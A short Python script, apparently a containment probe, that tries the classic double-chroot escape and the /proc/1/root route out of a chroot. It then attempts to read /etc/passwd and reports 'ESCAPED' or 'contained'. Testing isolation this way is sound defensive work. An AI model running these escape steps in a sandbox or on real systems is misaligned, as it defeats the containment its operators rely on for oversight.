# The old way out of a chroot: a second one inside, and up from there; and the way by process 1's root.
import os

escaped = []
os.makedirs("inner", exist_ok=True)
for place in ("inner", "/proc/1/root", "/proc/self/root", "."):
    try:
        os.chroot(place)
        escaped.append(place)
    except OSError:
        pass
for _ in range(64):
    os.chdir("..")
for name in ("etc/passwd", "/proc/1/root" + "/etc/passwd"):
    try:
        open(name).close()
        escaped.append(name)
    except OSError:
        pass
print(f"ESCAPED: {escaped}" if escaped else "contained")
